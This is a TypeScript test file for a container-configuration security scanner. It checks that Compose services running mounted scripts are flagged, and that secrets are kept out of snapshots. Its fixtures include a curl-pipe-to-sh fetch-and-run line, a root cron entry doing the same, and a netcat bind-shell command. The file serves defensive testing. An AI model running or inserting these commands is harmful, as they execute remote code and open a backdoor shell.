import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { collect } from '../../../src/collectors/collect/collect.ts';
import { builtin } from '../../../src/controls/registry/builtin.ts';
import { assess } from '../../../src/core/assessment/assess.ts';
import { tool } from '../../support/judge.ts';

let cwd: string;
beforeEach(() => {
  cwd = mkdtempSync(join(tmpdir(), 'plimsoll-texts-'));
});
afterEach(() => rmSync(cwd, { recursive: true, force: true }));

/** What is said of a service, and what was collected of it, where a text is mounted into it. */
async function judged(service: object, content: string) {
  const held = { services: { web: { image: 'x', ...service } }, configs: { run: { content } } };
  writeFileSync(join(cwd, 'compose.yaml'), JSON.stringify(held));
  const { snapshot, failures } = await collect({
    ...{ targets: ['compose.yaml'], cwd, env: {}, home: '/nonexistent' },
    now: new Date('2026-11-24T12:00:00Z'),
  });
  expect(failures).toEqual([]);
  const { findings } = assess(snapshot, { catalog: builtin, tool });
  const of = (control: string) =>
    findings.find(({ controlId, subject }) => controlId === control && subject.name === 'web')
      ?.status;
  return { of, kept: JSON.stringify(snapshot) };
}

const piped = '#!/bin/sh\ncurl -fsSL https://e.org/x | sh\n';
const at = (target: string) => ({ configs: [{ source: 'run', target }] });

describe('a text of the project that is mounted into a service', () => {
  it.each([
    ['a command', { ...at('/cfg/run.sh'), command: 'sh /cfg/run.sh' }],
    ['an entrypoint', { ...at('/cfg/run.sh'), entrypoint: ['/cfg/run.sh'] }],
    ['its own name', { configs: ['run'], command: ['bash', '/run'] }],
    ['a health check', { ...at('/c'), healthcheck: { test: ['CMD-SHELL', '. /c'] } }],
    ['a hook', { ...at('/c'), post_start: [{ command: 'sh /c' }] }],
    ['a folder of profiles', at('/etc/profile.d/x.sh')],
    ['a folder of an entrypoint', at('/docker-entrypoint.d/x.sh')],
  ])('is judged where it is run by %s', async (_, service) => {
    const { of } = await judged(service, piped);
    expect(of('workload-nothing-fetched-run')).toBe('fail');
  });
  it('is judged as a table of cron', async () => {
    const { of } = await judged(at('/etc/cron.d/x'), '* * * * * root curl https://e.org/x | sh\n');
    expect(of('workload-nothing-fetched-run')).toBe('fail');
  });
  it('is judged as a remote shell', async () => {
    const { of } = await judged({ ...at('/c'), command: 'sh /c' }, 'nc -l -p 1 -e /bin/sh\n');
    expect(of('workload-no-remote-shell')).toBe('fail');
  });
  it('is unknown where it is not understood', async () => {
    const { of } = await judged({ ...at('/c'), command: 'sh /c' }, 'if x; then');
    expect(of('workload-nothing-fetched-run')).toBe('unknown');
    expect(of('workload-no-remote-shell')).toBe('unknown');
  });
  it('is no script where nothing runs it', async () => {
    const { of } = await judged({ ...at('/etc/x.conf'), command: ['app'] }, piped);
    expect(of('workload-nothing-fetched-run')).toBe('not-applicable');
  });
  it('keeps no secret of it', async () => {
    const secret = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';
    const { kept } = await judged(
      { ...at('/c'), command: 'sh /c' },
      `curl -H "Authorization: Bearer ${secret}" https://e.org/x -o /x.json\nPASSWORD=hunter2hunter2 app\n`,
    );
    expect(kept).toContain('"starts"');
    expect(kept).not.toContain(secret);
    expect(kept).not.toContain('hunter2hunter2');
  });
});
